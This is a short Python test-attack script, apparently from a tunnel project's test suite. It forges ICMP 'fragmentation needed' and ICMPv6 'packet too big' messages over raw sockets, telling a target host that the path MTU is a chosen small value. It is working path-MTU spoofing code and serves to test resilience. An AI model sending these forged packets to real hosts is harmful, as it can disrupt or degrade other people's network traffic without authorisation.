"""Forged ICMP: "fragmentation needed" or "packet too big", about a datagram with those addresses and ports.

``python -m tests.reftunnel.attacks.icmp FROM TO PORT THEIR_PORT MTU COUNT``: tells TO, which sends from its
PORT to FROM's THEIR_PORT, that the way takes MTU bytes. Nothing is in it that is not on the wire to be seen.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF ^ total


def quoted(to: str, far: str, port: int, far_port: int, mtu: int) -> bytes:
    """ICMP message to `to` about its datagram of 1452 bytes to `far`."""
    udp = struct.pack(">HHHH", port, far_port, 1460, 0)
    one, other = (ipaddress.ip_address(host).packed for host in (to, far))
    if ":" in to:
        inner = struct.pack(">IHBB", 6 << 28, 1460, 17, 64) + one + other + udp + bytes(64)
        message = struct.pack(">BBHI", 2, 0, 0, mtu) + inner
        pseudo = other + one + struct.pack(">II", len(message), socket.IPPROTO_ICMPV6)
        return message[:2] + struct.pack(">H", checksum(pseudo + message)) + message[4:]
    inner = struct.pack(">BBHHHBBH", 0x45, 0, 1480, 1, 0x4000, 64, 17, 0) + one + other + udp
    message = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + inner
    return message[:2] + struct.pack(">H", checksum(message)) + message[4:]


def main(source: str, to: str, port: int, far_port: int, mtu: int, count: int) -> None:
    is_v6 = ":" in to
    family, proto = (
        (socket.AF_INET6, socket.IPPROTO_ICMPV6) if is_v6 else (socket.AF_INET, socket.IPPROTO_ICMP)
    )
    with socket.socket(family, socket.SOCK_RAW, proto) as sock:
        sock.bind((source, 0))
        for _ in range(count):
            sock.sendto(quoted(to, source, port, far_port, mtu), (to, 0))
            time.sleep(0.5)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:]))
